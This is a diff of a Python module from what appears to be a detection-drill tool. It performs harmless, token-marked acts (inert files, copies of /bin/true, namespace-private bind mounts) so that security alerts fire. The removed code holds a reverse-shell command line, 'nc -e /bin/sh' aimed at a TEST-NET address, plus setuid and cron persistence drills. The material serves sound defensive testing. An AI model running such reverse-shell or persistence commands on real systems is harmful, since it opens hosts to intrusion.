@@ -1,138 +1,236 @@
-"""Harmless acts that must raise alerts: real files and a real process, each named so that it is known as a drill.
+"""Harmless acts that raise alerts: real files and real processes, each of which carries a token that names it.
 
-Nothing here does what it looks like: the setuid file is inert text, the cron file has a name cron skips (cron(8),
-Debian: names with a dot) and holds a comment, and the "reverse shell" is a shell that waits for its standard input.
+Nothing here does what it looks like.  A program is a copy of /bin/true under another name; where a rule wants its very
+place, the copy is laid over that place in a mount namespace of its own process, which ends with it and which nobody
+else sees (mount_namespaces(7)).  A file is new, holds a comment, has the token in its path, and goes again.
 """
 
 from __future__ import annotations
 
+import contextlib
+import ctypes
 import os
 import shutil
-import stat
 import subprocess
+import sys
 import tempfile
 import time
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator
 from contextlib import AbstractContextManager, contextmanager
 from pathlib import Path
 from typing import Final, Protocol
 
-__all__ = ["MARK", "Act", "CronFile", "SetuidFile", "ShellBack", "choose", "writable"]
+from sentinair.errors import SentinairError
 
-MARK: Final = "sentinair-drill"
-_INERT: Final = b"# Sentinair drill: inert, and safe to delete.\n"
+__all__ = ["INERT", "Act", "FileAct", "OpenAct", "Program", "ProgramAct"]
+
+INERT: Final = b"# Sentinair drill: inert, and safe to delete.\n"
+_CLONE_NEWNS: Final = 0x00020000  # sched.h
+_MS_REC, _MS_PRIVATE, _MS_BIND = 0x4000, 0x40000, 0x1000  # mount(2), sys/mount.h
+_APART_SECS: Final = (
+    0.15  # between making a file and the act itself, where the two must be two events
+)
+_PATIENCE_SECS: Final = 5.0
 
 
 class Act(Protocol):
-    """One act.  token stands in the path or the process of whatever alert it raises.
+    """One act.  token stands in path, program, folder or arguments of whatever alert it raises."""
 
-    technique: ATT&CK id that the alert it must raise names.
-    """
-
-    name: str
     token: str
-    technique: str
+    how: str  # for a person
 
     def done(self) -> AbstractContextManager[int]:
         """A context: on entry the act is done and its steady time (ns) given; on exit every trace is removed."""
         ...
 
 
-class _FileAct:
-    name = ""
-    technique = ""
-    mode = 0o600
+class Program:
+    """The inert program all process acts are copies of, in a folder of its own; a context, removed at its end."""
 
-    def __init__(self, folder: Path, suffix: str) -> None:
-        self.token = f"{MARK}-{os.urandom(4).hex()}"
-        self.path = folder / f"{self.token}{suffix}"
-
-    @contextmanager
-    def done(self) -> Iterator[int]:
-        flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW | os.O_CLOEXEC
-        descriptor = os.open(self.path, flags, 0o600)
-        try:
-            try:
-                os.write(descriptor, _INERT)
-                os.fchmod(descriptor, self.mode)
-            finally:
-                os.close(descriptor)
-            yield time.monotonic_ns()
-        finally:
-            self.path.unlink(missing_ok=True)
-
-
-class SetuidFile(_FileAct):
-    name = "setuid file"
-    technique = "T1548.001"
-    mode = stat.S_ISUID | 0o755
-
-    def __init__(self, folder: Path) -> None:
-        super().__init__(folder, "")
-
-
-class CronFile(_FileAct):
-    name = "cron file"
-    technique = "T1053.003"
-
-    def __init__(self, folder: Path) -> None:
-        super().__init__(folder, ".inert")
-
-
-class ShellBack:
-    """A copy of the shell, named as a network tool, with the arguments of a reverse shell; it only waits."""
-
-    name = "reverse shell"
-    technique = "T1059.004"
-
-    def __init__(self, folder: Path) -> None:
-        self.token = f"{MARK}-{os.urandom(4).hex()}"
-        self.folder = folder
+    def __init__(self, token: str, folder: Path) -> None:
+        self._prefix = f"{token}-program-"
+        self._folder = folder
+        self.path = folder / "unmade"
 
     @contextmanager
-    def done(self) -> Iterator[int]:
-        home = Path(tempfile.mkdtemp(prefix=f"{self.token}-", dir=self.folder))
+    def made(self) -> Iterator[None]:
+        """Raises SentinairError where /bin/true does what its name says: then a copy could do harm."""
+        home = Path(tempfile.mkdtemp(prefix=self._prefix, dir=self._folder))
         try:
-            tool = home / "nc"
-            shutil.copyfile("/bin/sh", tool)
-            tool.chmod(0o700)
-            # 192.0.2.0/24 is TEST-NET-1 (RFC 5737): no host has it, and nothing here connects anyway.
-            words = ["nc", "-c", "read wait", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"]
-            child = subprocess.Popen(words, executable=tool, stdin=subprocess.PIPE, env={})
-            done_ns = time.monotonic_ns()
-            try:
-                yield done_ns
-            finally:
-                child.communicate(timeout=5)  # end of input ends it
+            self.path = home / "false"
+            shutil.copyfile(os.path.realpath("/bin/true"), self.path)
+            self.path.chmod(0o755)
+            home.chmod(0o755)
+            if subprocess.run([self.path], check=False, env={}).returncode != 0:
+                raise SentinairError(
+                    "/bin/true is one of many programs in one file here, which act by their names",
+                    where="drill",
+                    remedy="programs cannot be drilled on this host",
+                )
+            yield
         finally:
             shutil.rmtree(home, ignore_errors=True)
 
-
-def writable(folder: Path) -> bool:
-    return folder.is_dir() and os.access(folder, os.W_OK | os.X_OK)
-
-
-def choose(watched: Sequence[Path]) -> tuple[list[Act], list[tuple[str, str]]]:
-    """What can be done here under these watched roots, and what cannot, each with its reason."""
-    acts: list[Act] = [ShellBack(Path(tempfile.gettempdir()))]
-    skipped = []
-    preferred = [Path("/etc"), *watched]
-    folder = next((root for root in preferred if _within(root, watched) and writable(root)), None)
-    if folder is None:
-        skipped.append((SetuidFile.name, "no watched directory may be written by you; use sudo"))
-    else:
-        acts.append(SetuidFile(folder))
-    cron = Path("/etc/cron.d")
-    if not _within(cron, watched):
-        skipped.append((CronFile.name, f"{cron} is not watched"))
-    elif not writable(cron):
-        skipped.append(
-            (CronFile.name, f"{cron} may not be written by you, or is not there; use sudo")
-        )
-    else:
-        acts.append(CronFile(cron))
-    return acts, skipped
+    def copy_to(self, target: Path) -> None:
+        shutil.copyfile(self.path, target)
+        target.chmod(0o755)
 
 
-def _within(path: Path, roots: Sequence[Path]) -> bool:
-    return any(path == root or root in path.parents for root in roots)
+class ProgramAct:
+    """A copy of the inert program, started under a name with arguments.
+
+    folder: where a folder for the copy is made; ignored with place.  place: the very path the program must have, in
+    a mount namespace of its own.
+    """
+
+    def __init__(
+        self, token: str, program: Program, folder: Path, name: str, words: tuple[str, ...],
+        place: Path | None = None,
+    ) -> None:  # fmt: skip
+        self.token = token
+        self.how = f"start {' '.join(words)} as {place or folder / '…' / name}"
+        self._program = program
+        self._folder = folder
+        self._name = name
+        self._words = words
+        self._place = place
+
+    def home(self) -> Path:
+        """The folder it starts in, and holds the copy; it has the token."""
+        return self._folder / self.token
+
+    @contextmanager
+    def done(self) -> Iterator[int]:
+        home = self.home()
+        home.mkdir(mode=0o755)
+        try:
+            if self._place is None:
+                tool, stage = home / self._name, None
+                self._program.copy_to(tool)
+            else:
+                tool, stage = self._place, self._stage(self._place)
+            child = subprocess.Popen(
+                list(self._words),
+                executable=tool,
+                cwd=home,
+                env={},
+                stdin=subprocess.DEVNULL,
+                stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL,
+                preexec_fn=stage,  # noqa: PLW1509 - this program has one thread
+            )
+            child.wait(_PATIENCE_SECS)
+            yield time.monotonic_ns()
+        finally:
+            shutil.rmtree(home, ignore_errors=True)
+
+    def _stage(self, place: Path) -> Callable[[], None]:
+        """Run in the child before it starts the program: puts the copy at place for the child alone."""
+        libc = ctypes.CDLL(None, use_errno=True)
+        copy, real = self._program.path, place.exists()
+
+        def stage() -> None:
+            _check(libc.unshare(_CLONE_NEWNS))
+            _check(libc.mount(None, b"/", None, _MS_REC | _MS_PRIVATE, None))
+            if real:
+                _check(libc.mount(bytes(copy), bytes(place), None, _MS_BIND, None))
+                return
+            _check(libc.mount(b"none", bytes(place.parent), b"tmpfs", 0, b"size=1m"))
+            self._program.copy_to(place)
+
+        return stage
+
+
+def _check(result: int) -> None:
+    if result != 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+
+
+class FileAct:
+    """An inert file that was not there, made and removed.
+
+    actions: what is done with it, of create, attrib, rename, delete; writing is part of create.
+    """
+
+    def __init__(self, token: str, path: Path, actions: frozenset[str], mode: int = 0o600) -> None:
+        self.token = token
+        self.how = f"make {path}"
+        self.path = path
+        self._actions = actions
+        self._mode = mode
+
+    @contextmanager
+    def done(self) -> Iterator[int]:
+        made: list[Path] = []
+        first = self.path
+        if "rename" in self._actions:
+            first = self.path.with_name(f"{self.token}.first")
+        try:
+            for folder in reversed(self.path.parents):
+                if not folder.is_dir():
+                    made.append(folder)
+                    self._make(folder)
+            self._write(first)
+            if first != self.path:
+                os.rename(first, self.path)
+            if "delete" in self._actions:
+                time.sleep(_APART_SECS)
+                self.path.unlink()
+            yield time.monotonic_ns()
+        finally:
+            first.unlink(missing_ok=True)
+            self.path.unlink(missing_ok=True)
+            for folder in reversed(made):
+                with contextlib.suppress(OSError):  # it was never made, or others use it by now
+                    self._remove(folder)
+
+    def _make(self, folder: Path) -> None:
+        """By way of a name with the token, so that its events have it too."""
+        if self.token in folder.name:
+            folder.mkdir(mode=0o755)
+            return
+        marked = folder.with_name(f"{self.token}.folder")
+        marked.mkdir(mode=0o755)
+        try:
+            os.rename(marked, folder)
+        except OSError:
+            marked.rmdir()
+            raise
+
+    def _remove(self, folder: Path) -> None:
+        if self.token not in folder.name and not os.listdir(folder):
+            marked = folder.with_name(f"{self.token}.folder")
+            os.rename(folder, marked)
+            folder = marked
+        folder.rmdir()
+
+    def _write(self, path: Path) -> None:
+        flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW | os.O_CLOEXEC
+        descriptor = os.open(path, flags, 0o600)
+        try:
+            os.write(descriptor, INERT)
+            if "attrib" in self._actions or self._mode != 0o600:
+                os.fchmod(descriptor, self._mode)
+        finally:
+            os.close(descriptor)
+
+
+class OpenAct:
+    """A file opened for reading by a child that reads nothing of it."""
+
+    CODE: Final = "import os, sys; os.close(os.open(sys.argv[1], os.O_RDONLY))"
+
+    def __init__(self, token: str, path: Path) -> None:
+        self.token = token
+        self.how = f"open {path}, and read nothing"
+        self.words = (sys.executable, "-I", "-S", "-c", self.CODE, str(path), token)
+
+    @contextmanager
+    def done(self) -> Iterator[int]:
+        done = subprocess.run(
+            self.words, check=False, env={}, cwd="/", stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=_PATIENCE_SECS,
+        )  # fmt: skip
+        if done.returncode != 0:
+            raise OSError(f"{self.words[-2]} could not be opened")
+        yield time.monotonic_ns()
